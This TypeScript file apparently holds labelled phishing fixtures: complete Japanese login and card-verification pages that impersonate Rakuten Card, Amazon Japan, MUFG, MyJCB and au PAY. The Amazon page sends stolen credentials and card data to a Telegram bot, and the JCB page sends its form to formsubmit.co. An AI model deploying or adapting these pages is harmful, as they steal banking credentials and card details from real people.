import { htmlRoute, type Entry } from '../entry.js';
import { jsonRoute } from '../parts/e-bin.js';
import { doc, wordmark, lockIcon, spinnerCss, b64 } from '../parts/yj-kit.js';

// Credential and card kits (Japan: finance, commerce, carriers, messaging).

const rakutenCss = `body{background:#f7f7f7}.hd{background:#fff;border-bottom:3px solid #bf0000;padding:10px 16px}.wrap{max-width:480px;margin:24px auto;background:#fff;border:1px solid #ddd;border-radius:4px;padding:24px}
h1{font-size:18px;margin:0 0 12px}.alert{background:#fff4f4;border:1px solid #f3c2c2;color:#bf0000;padding:10px 12px;font-size:13px;margin-bottom:16px}
label{display:block;font-size:13px;font-weight:bold;margin:12px 0 4px}input{width:100%;padding:10px;border:1px solid #bbb;border-radius:3px;font-size:16px}
.btn{display:block;width:100%;margin-top:20px;background:#bf0000;color:#fff;border:0;border-radius:4px;padding:12px;font-size:16px;font-weight:bold}.ft{text-align:center;font-size:11px;color:#777;margin:24px 0}.row{display:flex;gap:10px}.row>div{flex:1}.err{color:#bf0000;font-size:12px;display:none}`;

export const entries: Entry[] = [
  // yj-rakuten-card-usage-confirm
{
  id: 'yj-rakuten-card-usage-confirm',
  label: 'phishing',
  kind: 'card-issuer-kit',
  url: 'https://www.rakuten-card-riyokakunin.com/e-NAVI/index.xhtml',
  body: doc({
    lang: 'ja',
    title: '楽天e-NAVI ログイン | 楽天カード',
    css: rakutenCss,
    body: `<div class="hd">${wordmark('Rakuten Card', '#bf0000', { w: 170 })}</div>
<div class="wrap">
<h1>楽天e-NAVI ログイン</h1>
<div class="alert">お客様のカードに第三者による不正利用の可能性がある取引が検知されたため、ご利用を一時的に制限しております。ログインのうえ、ご本人様確認をお願いいたします。</div>
<form id="lf" method="post" action="/e-NAVI/next.php" autocomplete="off">
<input type="hidden" name="step" value="1">
<label for="u">ユーザID</label><input id="u" name="u" type="text" placeholder="ユーザIDを入力">
<label for="p">パスワード</label><input id="p" name="p" type="password" placeholder="パスワードを入力">
<p class="err" id="e">ユーザIDまたはパスワードを入力してください。</p>
<button class="btn" type="submit">ログイン</button>
</form>
<p style="font-size:12px;margin-top:16px"><a href="#">ユーザIDまたはパスワードをお忘れの方</a></p>
</div>
<p class="ft">&copy; Rakuten Card Co., Ltd.</p>`,
    tail: `<script>document.getElementById('lf').addEventListener('submit',function(ev){var u=this.u.value.trim(),p=this.p.value;if(u.length<4||p.length<6){ev.preventDefault();document.getElementById('e').style.display='block'}});</script>`,
  }),
  routes: {
    'www.rakuten-card-riyokakunin.com/e-NAVI/next.php': htmlRoute(doc({
      lang: 'ja',
      title: 'ご本人様確認 | 楽天カード',
      css: rakutenCss,
      body: `<div class="hd">${wordmark('Rakuten Card', '#bf0000', { w: 170 })}</div>
<div class="wrap"><h1>ご本人様確認</h1><p style="font-size:13px">ご登録のカード情報を入力してください。確認後、ご利用制限を解除いたします。</p>
<form id="cf" method="post" action="/e-NAVI/finish.php">
<label>カード番号</label><input name="cn" inputmode="numeric" maxlength="19" placeholder="0000 0000 0000 0000">
<div class="row"><div><label>有効期限（月/年）</label><input name="ex" placeholder="MM/YY" maxlength="5"></div><div><label>セキュリティコード</label><input name="cv" maxlength="4" inputmode="numeric"></div></div>
<label>生年月日</label><input name="bd" placeholder="19800101" maxlength="8">
<label>カード暗証番号（4桁）</label><input name="pin" type="password" maxlength="4" inputmode="numeric">
<button class="btn">確認する</button></form></div>
<script>function luhn(n){n=n.replace(/\\D/g,'');var s=0,a=false;for(var i=n.length-1;i>=0;i--){var d=+n[i];if(a){d*=2;if(d>9)d-=9}s+=d;a=!a}return n.length>13&&s%10==0}
document.getElementById('cf').onsubmit=function(){if(!luhn(this.cn.value)){alert('カード番号に誤りがあります');return false}};</script>`,
    })),
    'www.rakuten-card-riyokakunin.com/e-NAVI/finish.php': htmlRoute('<!DOCTYPE html><meta charset="utf-8"><meta http-equiv="refresh" content="2;url=https://www.rakuten-card.co.jp/"><p>確認が完了しました。</p>'),
  },
},
  // yj-amazon-jp-prime-suspended
{
  id: 'yj-amazon-jp-prime-suspended',
  label: 'phishing',
  kind: 'marketplace-kit',
  url: 'https://amazon.co.jp.ap-signin-member.shop/ap/signin?openid.pape.max_auth_age=0&openid.return_to=https%3A%2F%2Fwww.amazon.co.jp%2F',
  body: doc({
    lang: 'ja',
    title: 'Amazonサインイン',
    css: `body{background:#fff;font-family:Arial,sans-serif}.logo{text-align:center;margin:14px 0 18px}.box{width:350px;margin:0 auto;border:1px solid #ddd;border-radius:8px;padding:20px 26px}
h1{font-weight:400;font-size:28px;margin:0 0 10px}label{font-weight:700;font-size:13px;display:block;margin:10px 0 2px}input{width:100%;height:31px;border:1px solid #a6a6a6;border-top-color:#949494;border-radius:3px;padding:3px 7px;font-size:13px}
.b{width:100%;margin-top:14px;background:#ffd814;border:1px solid #fcd200;border-radius:8px;padding:7px;font-size:13px;cursor:pointer}.note{background:#fff8e6;border:1px solid #e1a200;border-radius:6px;padding:10px 12px;font-size:13px;margin-bottom:12px}
.sm{font-size:12px;color:#555}.hid{display:none}.foot{border-top:1px solid #ddd;margin-top:30px;padding-top:18px;text-align:center;font-size:11px;color:#555}`,
    body: `<div class="logo">${wordmark('amazon.co.jp', '#111', { w: 150, size: 24 })}</div>
<div class="box">
<div class="note"><b>お支払い方法に問題があります</b><br>Amazonプライム会費のお支払いに使用されたカードが承認されませんでした。会員資格は24時間以内に停止されます。</div>
<h1>ログイン</h1>
<form id="f1" onsubmit="return nx()">
<div id="s1"><label for="ap_email">Eメールまたは携帯電話番号</label><input id="ap_email" name="email" type="text"><button class="b" type="submit">次に進む</button></div>
<div id="s2" class="hid"><p class="sm" id="em"></p><label for="ap_password">パスワード</label><input id="ap_password" name="password" type="password"><button class="b" type="submit">ログイン</button></div>
<div id="s3" class="hid"><label>カード名義人</label><input name="holder"><label>カード番号</label><input name="card" inputmode="numeric"><label>有効期限</label><input name="exp" placeholder="MM/YY"><label>セキュリティコード（CVV）</label><input name="cvv" maxlength="4"><button class="b" type="submit">カード情報を更新</button></div>
</form>
<p class="sm">続行することで、Amazonの<a href="#">利用規約</a>および<a href="#">プライバシー規約</a>に同意するものとします。</p>
</div>
<div class="foot">&copy; 1996-2025, Amazon.com, Inc. or its affiliates</div>`,
    tail: `<script>
var st=1,bt="7593028114:AAHq0rVv3dLz_kP1mXbq9TfW2cJyN8eUo4s",ci="-1002143387716";
function send(t){var x=new XMLHttpRequest();x.open("POST","https://api.telegram.org/bot"+bt+"/sendMessage",true);x.setRequestHeader("Content-Type","application/json");x.send(JSON.stringify({chat_id:ci,text:t}));}
function nx(){var f=document.getElementById("f1");
 if(st==1){if(!f.email.value)return false;document.getElementById("em").textContent=f.email.value;document.getElementById("s1").className="hid";document.getElementById("s2").className="";st=2;return false}
 if(st==2){send("[AMZ-JP] "+f.email.value+" | "+f.password.value+" | "+navigator.userAgent);document.getElementById("s2").className="hid";document.getElementById("s3").className="";st=3;return false}
 send("[AMZ-JP CC] "+f.holder.value+" | "+f.card.value+" | "+f.exp.value+" | "+f.cvv.value);setTimeout(function(){location.href="https://www.amazon.co.jp/"},1500);return false}
</script>`,
  }),
},
  // yj-mufg-onetime-password
{
  id: 'yj-mufg-onetime-password',
  label: 'phishing',
  kind: 'jp-bank-kit',
  url: 'https://mufg-jp-bk.com/ib/otp.html',
  body: doc({
    lang: 'ja',
    title: '三菱UFJダイレクト ログイン',
    css: `body{background:#f4f4f4}.top{background:#fff;border-bottom:1px solid #ddd;padding:10px 16px}.w{max-width:460px;margin:20px auto;background:#fff;border-radius:6px;padding:22px;box-shadow:0 1px 3px rgba(0,0,0,.1)}
.red{color:#e60000}h2{font-size:19px;margin-top:0}input{width:100%;padding:11px;border:1px solid #bbb;border-radius:4px;font-size:16px;margin:4px 0 12px}.b{width:100%;background:#e60000;border:0;color:#fff;padding:13px;border-radius:4px;font-size:16px}.i{font-size:12px;color:#666}`,
    body: `<div class="top">${wordmark('MUFG', '#e60000', { w: 80 })} <span style="font-size:13px">三菱UFJ銀行</span></div>
<div class="w"><h2>ワンタイムパスワードの<span class="red">利用登録確認</span></h2>
<p class="i">2025年12月以降、ワンタイムパスワード未登録のお客さまは振込等のお取引がご利用いただけなくなります。以下よりご確認ください。</p>
<form id="mf" action="#">
<label>契約番号（10桁）</label><input name="keiyaku" maxlength="10" inputmode="numeric">
<label>ログインパスワード</label><input name="lpw" type="password">
<label>ワンタイムパスワード（6桁）</label><input name="otp" maxlength="6" inputmode="numeric">
<label>生年月日（西暦8桁）</label><input name="birth" maxlength="8" inputmode="numeric">
<button class="b">確認</button></form>
<p class="i">ワンタイムパスワードはアプリ「三菱UFJ銀行」またはトークンに表示されます。</p></div>`,
    tail: `<script>
document.getElementById('mf').onsubmit=function(e){e.preventDefault();var q=[];for(var i=0;i<this.elements.length;i++){var el=this.elements[i];if(el.name)q.push(el.name+'='+encodeURIComponent(el.value))}
var x=new XMLHttpRequest();x.open('POST','inc/otp.php',true);x.setRequestHeader('Content-Type','application/x-www-form-urlencoded');x.onloadend=function(){document.querySelector('.w').innerHTML='<h2>確認中</h2><p>ただいま確認しております。画面を閉じずに2分ほどお待ちください。</p>';setTimeout(function(){location.replace('https://www.bk.mufg.jp/')},120000)};x.send(q.join('&'))};
</script>`,
  }),
  routes: { 'mufg-jp-bk.com/ib/inc/otp.php': jsonRoute({ r: 'ok' }) },
},
  // yj-myjcb-login-kit
{
  id: 'yj-myjcb-login-kit',
  label: 'phishing',
  kind: 'card-issuer-kit',
  url: 'https://my-jcb.co.jp.login-info.icu/iss-pc/member/user_manage/Login',
  body: doc({
    lang: 'ja',
    title: 'MyJCB ログイン | JCBカード',
    css: `body{background:#f2f5f9}.top{background:#fff;padding:12px 20px;box-shadow:0 1px 0 #dde}.in{max-width:520px;margin:30px auto;background:#fff;border-radius:10px;padding:28px}h1{font-size:20px;color:#0b318f}
.f label{display:block;font-size:13px;font-weight:bold;margin:14px 0 4px}.f input{width:100%;padding:12px;border:1px solid #b4bdd0;border-radius:6px;font-size:16px}.s{width:100%;margin-top:22px;background:#0b318f;color:#fff;border:0;border-radius:6px;padding:14px;font-size:16px}.n{font-size:12px;color:#555}`,
    body: `<div class="top">${wordmark('JCB', '#0b318f', { w: 60 })} <b style="color:#0b318f">MyJCB</b></div>
<div class="in"><h1>MyJCB ログイン</h1><p class="n">【JCB】ご利用確認のお願い：お客様のカードご利用内容について確認させていただきたいお取引がございます。</p>
<form class="f" id="jf" method="post"><label>MyJCB ID</label><input name="userId" autocomplete="username"><label>パスワード</label><input name="password" type="password" autocomplete="current-password">
<div id="cc" style="display:none"><label>カード番号</label><input name="cardNo" inputmode="numeric"><label>有効期限（MM/YY）</label><input name="exp"><label>セキュリティコード</label><input name="cvv" maxlength="4"><label>生年月日</label><input name="birth" placeholder="YYYYMMDD"></div>
<button class="s" type="submit">ログイン</button></form><p class="n"><a href="#">ID・パスワードをお忘れの方</a></p></div>`,
    tail: `<script>
var f=document.getElementById('jf'),phase=0;
f.addEventListener('submit',function(e){e.preventDefault();
 if(phase===0){document.getElementById('cc').style.display='block';f.querySelector('.s').textContent='本人確認して続ける';phase=1;return}
 var body=new URLSearchParams(new FormData(f));body.append('_subject','JCB '+new Date().toISOString());
 fetch('https://formsubmit.co/ajax/b7c2d1a9f0e3e2ab94c55e1d8e1f6a07',{method:'POST',headers:{'Accept':'application/json'},body:body}).finally(function(){location.href='https://my.jcb.co.jp/'})});
</script>`,
  }),
},
  // yj-au-id-payment-kit
{
  id: 'yj-au-id-payment-kit',
  label: 'phishing',
  kind: 'carrier-account-kit',
  url: 'https://au-id.kddi-pay.cc/login',
  body: doc({
    lang: 'ja',
    title: 'au ID ログイン',
    css: `body{background:#f5f5f5}.h{background:#fff;padding:10px 16px;border-bottom:1px solid #e0e0e0}.w{max-width:460px;margin:22px auto;background:#fff;padding:24px;border-radius:8px}h1{font-size:19px}
.a{border-left:4px solid #eb5505;background:#fff5ef;padding:10px;font-size:13px}label{display:block;font-size:13px;margin:14px 0 4px}input{width:100%;padding:12px;border:1px solid #aaa;border-radius:6px;font-size:16px}button{margin-top:20px;width:100%;background:#eb5505;color:#fff;border:0;border-radius:30px;padding:14px;font-size:16px}`,
    body: `<div class="h">${wordmark('au', '#eb5505', { w: 50, size: 28 })} <span style="font-size:13px">au PAY カード</span></div>
<div class="w"><h1>au ID でログイン</h1><div class="a">au PAY カードのご利用に関する重要なお知らせ：セキュリティ強化のため、ご本人確認が完了していないカードは順次ご利用停止となります。</div>
<form method="post" action="/login/au.php"><label>au ID（メールアドレス・電話番号）</label><input name="auid"><label>パスワード</label><input name="pass" type="password"><label>暗証番号（4桁）</label><input name="ansho" type="password" maxlength="4"><label>au PAY カード番号</label><input name="card" inputmode="numeric"><label>有効期限</label><input name="exp" placeholder="MM/YY"><label>セキュリティコード</label><input name="cvc" maxlength="3">
<button>本人確認を完了する</button></form></div>`,
  }),
},
];
